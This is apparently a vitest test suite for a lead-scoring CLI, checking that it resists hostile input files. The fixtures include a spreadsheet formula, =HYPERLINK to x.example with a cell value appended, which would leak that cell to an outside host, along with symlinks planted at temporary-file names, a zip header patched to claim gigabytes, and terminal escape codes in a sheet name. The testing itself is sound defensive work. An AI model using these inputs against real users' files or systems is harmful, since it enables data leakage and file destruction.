/**
 * Attacks on the command line's files (issue 17 items 4, 5, 6, 7, 8, 10 and 11's file parts;
 * issue 16's damaged and oversized workbooks): CSV that would merge or drop leads, workbooks
 * whose used range or parts claim absurd sizes, in-place writes, planted symlinks, Excel
 * Tables, cells Excel cannot hold. Each case asserts the safe behaviour a user relies on.
 */
import { chmodSync, existsSync, lstatSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { beforeEach, describe, expect, it } from 'vitest';
import { EXIT } from '../../src/cli/command';
import { parseCsv } from '../../src/cli/csv';
import { XlsxPackage } from '../../src/cli/files/xlsxPackage';
import { writeModelSheet } from '../../src/cli/modelSource';
import { criterion, model, type Model } from '../../src/engine';
import { runCli } from '../cli/runCli';
import { SNAPSHOT_SUFFIX } from '../../src/cli/scoring/csvSnapshot';

const AS_OF = '2026-11-01';
/** +10 for a company of 1,000 employees or more: enough to see whether a lead was read right. */
const BIG_COMPANY: Model = model({ name: 'Attack', asOf: AS_OF, criteria: [criterion({ group: 'fit', name: 'Big company', field: 'Employees', condition: { op: 'gte', value: 1000 }, points: 10 })] });

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'leadscore-attack-'));
});

const at = (name: string): string => join(dir, name);
function modelFile(m: Model = BIG_COMPANY): string {
  writeFileSync(at('model.json'), JSON.stringify(m));
  return at('model.json');
}
// The snapshot kept beside a scored CSV file is output, not a leftover.
const leftovers = (): string[] => readdirSync(dir).filter((f) => (f.includes('.tmp') || f.includes('.leadscore-')) && !f.endsWith(SNAPSHOT_SUFFIX));
const csvOut = (name: string) => parseCsv(readFileSync(at(name), 'utf8'));

/** A workbook with a Leads sheet (header + rows), the model sheet, then whatever `edit` adds. */
async function workbook(name: string, rows: (string | number | null)[][], edit?: (leads: ExcelJS.Worksheet, wb: ExcelJS.Workbook) => void): Promise<string> {
  const wb = new ExcelJS.Workbook();
  const leads = wb.addWorksheet('Leads');
  for (const row of rows) leads.addRow(row);
  writeModelSheet(wb, BIG_COMPANY);
  edit?.(leads, wb);
  await wb.xlsx.writeFile(at(name));
  return at(name);
}
const LEADS: (string | number)[][] = [
  ['Lead ID', 'Employees'],
  ['L1', 5000],
  ['L2', 20],
];

describe('CSV that would lose or merge leads (item 4)', () => {
  it('mixed line endings (\\r\\n, \\n, \\r) read as six leads, each its own row', async () => {
    writeFileSync(at('in.csv'), 'Lead ID,Employees\r\nL1,5000\nL2,20\rL3,3000\r\nL4,1\nL5,2000\rL6,7\n');
    const r = await runCli('score', at('in.csv'), '--model', modelFile(), '-o', at('out.csv'));
    expect(r.code).toBe(EXIT.ok);
    expect(csvOut('out.csv').rows.map((row) => [row[0], row[2]])).toEqual([['L1', '10'], ['L2', '0'], ['L3', '10'], ['L4', '0'], ['L5', '10'], ['L6', '0']]);
  });

  it('a quote that never closes fails with its line, and nothing is written', async () => {
    writeFileSync(at('in.csv'), 'Lead ID,Employees,Note\nL1,5000,ok\nL2,20,"yes\nL3,3000,fine\n');
    const r = await runCli('score', at('in.csv'), '--model', modelFile(), '-o', at('out.csv'));
    expect(r.code).toBe(EXIT.input);
    expect(r.err).toMatch(/line 3: a quote opens a cell that is never closed/);
    expect(existsSync(at('out.csv'))).toBe(false);
    expect(leftovers()).toEqual([]);
  });

  it('a quote that closes rows later, merging leads into a row of the wrong length, fails with the line', async () => {
    writeFileSync(at('in.csv'), 'Lead ID,Note,Employees\nL1,a,5000\nL2,"yes,20\nL3,b,3000",x,y\nL4,c,1\n');
    const r = await runCli('score', at('in.csv'), '--model', modelFile(), '-o', at('out.csv'));
    expect(r.code).toBe(EXIT.input);
    expect(r.err).toMatch(/no lead was scored/);
    expect(r.err).toMatch(/line 3: a quoted cell spanning lines leaves this row with 4 cells for 3 columns; is a quote unbalanced\?/);
    expect(existsSync(at('out.csv'))).toBe(false);
  });

  it('a quote that merges leads into a row of the right length is named in a warning with its lines', async () => {
    // Indistinguishable from a note written over two lines, so it is scored, and said.
    writeFileSync(at('in.csv'), 'Lead ID,Note,Employees\nL1,a,5000\nL2,"yes,20\nL3,b",3000\nL4,c,1\n');
    const r = await runCli('score', at('in.csv'), '--model', modelFile(), '-o', at('out.csv'));
    expect(r.code).toBe(EXIT.ok);
    expect(r.err).toMatch(/warning: .*1 row\(s\) have a quoted cell over several lines .*lines 3-4/);
  });

  it('cells beyond the header fail the command with the line, rather than being dropped', async () => {
    writeFileSync(at('in.csv'), 'Lead ID,Employees\nL1,5000\nL2,20,extra,more\nL3,1,\n');
    const r = await runCli('score', at('in.csv'), '--model', modelFile(), '-o', at('out.csv'));
    expect(r.code).toBe(EXIT.input);
    expect(r.err).toContain('line 3: 4 cells for 2 columns');
    expect(r.err).not.toContain('line 4'); // an empty trailing cell loses nothing
  });

  it('a row with fewer cells is scored with blanks and named in a warning', async () => {
    writeFileSync(at('in.csv'), 'Lead ID,Employees,Note\nL1,5000,a\nL2\nL3,3000,c\n');
    const r = await runCli('score', at('in.csv'), '--model', modelFile(), '-o', at('out.csv'));
    expect(r.code).toBe(EXIT.ok);
    expect(r.err).toContain('warning');
    expect(r.err).toContain('line 3');
    expect(csvOut('out.csv').rows).toHaveLength(3);
  });

  it('text after a closing quote is an error at its line, not a silently joined cell', async () => {
    writeFileSync(at('in.csv'), 'Lead ID,Employees\nL1,"50"00\n');
    const r = await runCli('score', at('in.csv'), '--model', modelFile(), '-o', at('out.csv'));
    expect(r.code).toBe(EXIT.input);
    expect(r.err).toMatch(/line 2, cell 2: text after the closing quote/);
  });

  it("'1.200' in a ;-separated file (decimal-comma locale) is twelve hundred, and is written back as the file had it", async () => {
    writeFileSync(at('in.csv'), 'Lead ID;Employees\nL1;1.200\nL2;1,5\nL3;999\n');
    const r = await runCli('score', at('in.csv'), '--model', modelFile(), '-o', at('out.csv'));
    expect(r.code).toBe(EXIT.ok);
    expect(csvOut('out.csv').rows.map((row) => [row[1], row[2]])).toEqual([['1.200', '10'], ['1,5', '0'], ['999', '0']]);
  });
});

describe('writes that could damage what is there (items 5, 7, 8)', () => {
  it('--in-place on CSV keeps phone numbers, -Engineer and plain numbers as written, neutralises only formulas, keeps mode 600, and runs again', async () => {
    const original = 'Lead ID,Employees,Phone,Title,Delta,Name\r\nL1,5000,+44 20 7946 0958,-Engineer,-5,=HYPERLINK("http://x.example/?"&A1)\r\nL2,20,-,- VP Sales,+3,Ann\r\n';
    writeFileSync(at('in.csv'), original);
    chmodSync(at('in.csv'), 0o600);
    expect((await runCli('score', at('in.csv'), '--model', modelFile(), '--in-place')).code).toBe(EXIT.ok);
    expect(statSync(at('in.csv')).mode & 0o777).toBe(0o600);
    const once = csvOut('in.csv');
    expect(once.rows[0]!.slice(0, 6)).toEqual(['L1', '5000', '+44 20 7946 0958', '-Engineer', '-5', '\'=HYPERLINK("http://x.example/?"&A1)']);
    expect(once.rows[1]!.slice(0, 6)).toEqual(['L2', '20', '-', '- VP Sales', '+3', 'Ann']);
    const again = await runCli('score', at('in.csv'), '--model', modelFile(), '--in-place');
    expect(again.err).toBe('');
    expect(again.code).toBe(EXIT.ok);
    const twice = readFileSync(at('in.csv'), 'utf8');
    expect(twice).toBe(readFileSync(at('in.csv'), 'utf8'));
    // The second run refreshes the scores in place and, the leads having an ID, adds Change and Band since once.
    expect(csvOut('in.csv').headers).toEqual(['Lead ID', 'Employees', 'Phone', 'Title', 'Delta', 'Name', 'Score', 'Band', 'Fit', 'Engagement', 'Stage', 'Priority', 'Change', 'Band since']);
    expect(csvOut('in.csv').rows.map((row) => row.slice(0, 12))).toEqual(once.rows);
  });

  it('a symlink planted where the old code put its temporary file is never followed', async () => {
    writeFileSync(at('victim.txt'), 'precious');
    writeFileSync(at('in.csv'), 'Lead ID,Employees\nL1,5000\n');
    // Every name the old scheme could choose for this output (.<name>.<pid>.tmp) and a few more.
    for (const pid of [process.pid, process.pid + 1, 1, 2, 3]) symlinkSync(at('victim.txt'), at(`.out.csv.${pid}.tmp`));
    expect((await runCli('score', at('in.csv'), '--model', modelFile(), '-o', at('out.csv'))).code).toBe(EXIT.ok);
    expect(readFileSync(at('victim.txt'), 'utf8')).toBe('precious');
    expect(csvOut('out.csv').rows).toHaveLength(1);
  });

  it('--in-place through a symlink writes the real file and leaves the link a link', async () => {
    writeFileSync(at('real.csv'), 'Lead ID,Employees\nL1,5000\n');
    symlinkSync(at('real.csv'), at('link.csv'));
    expect((await runCli('score', at('link.csv'), '--model', modelFile(), '--in-place')).code).toBe(EXIT.ok);
    expect(lstatSync(at('link.csv')).isSymbolicLink()).toBe(true);
    expect(readlinkSync(at('link.csv'))).toBe(at('real.csv'));
    expect(csvOut('real.csv').headers).toContain('Score');
  });

  it('-o naming the input through a symlink is still refused without --in-place', async () => {
    writeFileSync(at('real.csv'), 'Lead ID,Employees\nL1,5000\n');
    symlinkSync(at('real.csv'), at('link.csv'));
    const r = await runCli('score', at('real.csv'), '--model', modelFile(), '-o', at('link.csv'));
    expect(r.code).toBe(EXIT.output);
    expect(readFileSync(at('real.csv'), 'utf8')).toBe('Lead ID,Employees\nL1,5000\n');
  });

  it('temporaries left by a killed run (SIGKILL) are removed by the next run in that folder', async () => {
    const dead = 2 ** 22 + 12345; // beyond pid_max on most systems: not running
    const stale = at(`.out.csv.leadscore-${dead}-0123456789abcdef.tmp`);
    writeFileSync(stale, 'half a file');
    writeFileSync(at('in.csv'), 'Lead ID,Employees\nL1,5000\n');
    expect((await runCli('score', at('in.csv'), '--model', modelFile(), '-o', at('out.csv'))).code).toBe(EXIT.ok);
    expect(existsSync(stale)).toBe(false);
    expect(leftovers()).toEqual([]);
  });
});

describe('workbooks whose size is a lie (item 6, issue 16)', () => {
  it('a stray cell at A1048576 is one more lead, not a million blank ones', async () => {
    const input = await workbook('stray.xlsx', LEADS, (leads) => {
      leads.getCell('A1048576').value = 'L3';
    });
    const r = await runCli('score', input, '-o', at('out.csv'), '--json');
    expect(r.code).toBe(EXIT.ok);
    expect(JSON.parse(r.out).leads).toBe(3);
    expect(csvOut('out.csv').rows).toHaveLength(3);
  });

  it('cells at XFD1 and XFD1048576 give a clear message (no room for the scores), not an out-of-memory crash', async () => {
    const input = await workbook('far.xlsx', LEADS, (leads) => {
      leads.getCell('XFD1').value = 'x';
      leads.getCell('XFD1048576').value = 'y';
    });
    expect(statSync(input).size).toBeLessThan(20_000);
    const r = await runCli('score', input, '-o', at('out.xlsx'));
    expect(r.code).toBe(EXIT.input);
    expect(r.err).toMatch(/would go past XFD, the last column Excel has/);
    expect(r.err).not.toMatch(/\n\s+at /); // no stack trace
    expect(existsSync(at('out.xlsx'))).toBe(false);
  });

  it('formatted but empty rows and columns after the table are not leads', async () => {
    const input = await workbook('formatted.xlsx', LEADS, (leads) => {
      for (let r = 4; r < 2000; r++) leads.getCell(r, 1).numFmt = '0.00';
      leads.getCell(1, 9).numFmt = '0.00';
    });
    const r = await runCli('score', input, '-o', at('out.csv'), '--json');
    expect(JSON.parse(r.out).leads).toBe(2);
    expect(csvOut('out.csv').headers).toEqual(['Lead ID', 'Employees', 'Score', 'Band', 'Fit', 'Engagement', 'Stage', 'Priority']);
  });

  it('a part whose directory entry claims gigabytes is refused before it is inflated', async () => {
    const input = await workbook('bomb.xlsx', LEADS);
    const bytes = readFileSync(input);
    // Patch the central directory's uncompressed size of the lead sheet to 3.9 GB.
    const name = Buffer.from('xl/worksheets/sheet1.xml');
    for (let p = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])); p >= 0; p = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), p - 1)) {
      if (bytes.subarray(p + 46, p + 46 + name.length).equals(name)) bytes.writeUInt32LE(0xf0000000, p + 24);
    }
    writeFileSync(at('bomb.xlsx'), bytes);
    const r = await runCli('score', at('bomb.xlsx'), '-o', at('out.csv'));
    expect(r.code).toBe(EXIT.input);
    expect(r.err).toMatch(/would inflate to 4,026,531,840 bytes .*zip bomb/);
  });

  it('a part that inflates beyond its declared size is refused as damaged', async () => {
    const input = await workbook('liar.xlsx', LEADS);
    const bytes = readFileSync(input);
    const name = Buffer.from('xl/worksheets/sheet1.xml');
    for (let p = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])); p >= 0; p = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), p - 1)) {
      if (bytes.subarray(p + 46, p + 46 + name.length).equals(name)) bytes.writeUInt32LE(100, p + 24);
    }
    writeFileSync(at('liar.xlsx'), bytes);
    const r = await runCli('score', at('liar.xlsx'), '-o', at('out.csv'));
    expect(r.code).toBe(EXIT.input);
    expect(r.err).toMatch(/damaged.*inflates beyond its declared size/);
  });

  it('a model sheet with a stray cell far away is refused with where it is, not read into millions of cells', async () => {
    const input = await workbook('model-stray.xlsx', LEADS, (_leads, wb) => {
      wb.getWorksheet('Lead Scoring')!.getCell('XFD1048576').value = 'stray';
    });
    const r = await runCli('score', input, '-o', at('out.csv'));
    expect(r.code).toBe(EXIT.input);
    expect(r.err).toContain('XFD1048576');
  });
});

describe('Excel Tables and what Excel cannot hold (items 10, 11)', () => {
  async function tableWorkbook(name: string, totals: boolean): Promise<string> {
    return workbook(name, [], (leads) => {
      leads.addTable({
        name: 'Prospects',
        ref: 'B2',
        headerRow: true,
        totalsRow: totals,
        columns: [{ name: 'Lead ID', totalsRowLabel: 'Total' }, { name: 'Employees', totalsRowFunction: 'sum' }],
        rows: [['L1', 5000], ['L2', 20], ['L3', 3000]],
      });
    });
  }

  it('the totals row of a table is not a lead', async () => {
    const input = await tableWorkbook('totals.xlsx', true);
    const r = await runCli('score', input, '--table', 'Prospects', '-o', at('out.csv'), '--json');
    expect(r.code).toBe(EXIT.ok);
    expect(JSON.parse(r.out).leads).toBe(3);
    expect(csvOut('out.csv').rows.map((row) => row[0])).toEqual(['L1', 'L2', 'L3']);
  });

  it('Score and Band are written inside the table (its columns grow), so sorting the table keeps them with their leads', async () => {
    const input = await tableWorkbook('grow.xlsx', true);
    expect((await runCli('score', input, '-o', at('out.xlsx'))).code).toBe(EXIT.ok);
    const pkg = XlsxPackage.open(at('out.xlsx'));
    try {
      const table = pkg.tables(pkg.sheets[0]!)[0]!;
      expect(table.range).toMatchObject({ firstColumn: 2, lastColumn: 2 + 1 + 6, firstRow: 2, lastRow: 6 });
      expect([...table.xml.matchAll(/<tableColumn [^>]*name="([^"]+)"/g)].map((m) => m[1])).toEqual(['Lead ID', 'Employees', 'Score', 'Band', 'Fit', 'Engagement', 'Stage', 'Priority']);
    } finally {
      pkg.close();
    }
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(at('out.xlsx'));
    const sheet = wb.getWorksheet('Leads')!;
    expect([3, 4, 5, 6].map((r) => sheet.getCell(r, 4).value)).toEqual([10, 0, 10, null]); // the totals row gets no score
    // A second run refreshes the columns inside the table and adds only Change and Band since
    // (the leads have an ID), inside the table too; a third run adds none.
    for (const run of [1, 2]) {
      expect((await runCli('score', at('out.xlsx'), '--in-place')).code).toBe(EXIT.ok);
      const again = XlsxPackage.open(at('out.xlsx'));
      try {
        const table = again.tables(again.sheets[0]!)[0]!;
        expect([run, table.range.lastColumn]).toEqual([run, 2 + 1 + 6 + 2]);
        expect([...table.xml.matchAll(/<tableColumn [^>]*name="([^"]+)"/g)].map((m) => m[1]).slice(-2)).toEqual(['Change', 'Band since']);
      } finally {
        again.close();
      }
    }
  });

  it('a table reaching column XFD gives a clear message and no stack trace', async () => {
    const input = await workbook('xfd.xlsx', [], (leads) => {
      leads.addTable({ name: 'Edge', ref: 'XFC1', headerRow: true, columns: [{ name: 'Lead ID' }, { name: 'Employees' }], rows: [['L1', 5000]] });
    });
    const r = await runCli('score', input, '-o', at('out.xlsx'));
    expect(r.code).toBe(EXIT.input);
    expect(r.err).toMatch(/table 'Edge': the table ends at column XFD/);
    expect(r.err).not.toMatch(/\n\s+at /);
  });

  it('.xlsx dates stay dates in CSV output, as ISO text', async () => {
    const input = await workbook('dates.xlsx', [['Lead ID', 'Employees', 'Created'], ['L1', 5000, null]], (leads) => {
      leads.getCell('C2').value = new Date(Date.UTC(2026, 9, 31));
      leads.getCell('C2').numFmt = 'dd/mm/yyyy';
      leads.getCell('C3').value = 'L2';
    });
    await runCli('score', input, '-o', at('out.csv'));
    expect(csvOut('out.csv').rows[0]!.slice(0, 3)).toEqual(['L1', '5000', '2026-10-31']);
  });

  it('merged cells over several leads are said, not silently copied to every row', async () => {
    const input = await workbook('merged.xlsx', [['Lead ID', 'Employees'], ['L1', 5000], ['L2', null], ['L3', null]], (leads) => {
      leads.mergeCells('B2:B4');
    });
    const r = await runCli('score', input, '-o', at('out.csv'));
    expect(r.code).toBe(EXIT.ok);
    expect(r.err).toMatch(/warning: .*merged cells B2:B4 span several leads/);
    expect(csvOut('out.csv').rows.map((row) => row[2])).toEqual(['10', '0', '0']);
  });

  it('a CSV cell over 32,767 characters is refused for .xlsx output with where it is (Excel would repair the file)', async () => {
    writeFileSync(at('long.csv'), `Lead ID,Employees,Notes\nL1,5000,${'x'.repeat(40_000)}\n`);
    const r = await runCli('score', at('long.csv'), '--model', modelFile(), '-o', at('out.xlsx'));
    expect(r.code).toBe(EXIT.input);
    expect(r.err).toMatch(/row 1 of the leads, column 'Notes': the cell holds 40,000 characters; Excel keeps at most 32,767/);
    expect(existsSync(at('out.xlsx'))).toBe(false);
    expect((await runCli('score', at('long.csv'), '--model', modelFile(), '-o', at('out.csv'))).code).toBe(EXIT.ok);
  });

  it('escape codes in a sheet name reach the terminal as visible text, not as commands', async () => {
    const input = await workbook('esc.xlsx', LEADS);
    const r = await runCli('score', input, '--table', 'x\u001b[2Jy', '-o', at('out.csv'));
    expect(r.code).toBe(EXIT.input);
    expect(r.err).not.toContain('\u001b');
    expect(r.err).toContain('x\\x1b[2Jy');
  });
});
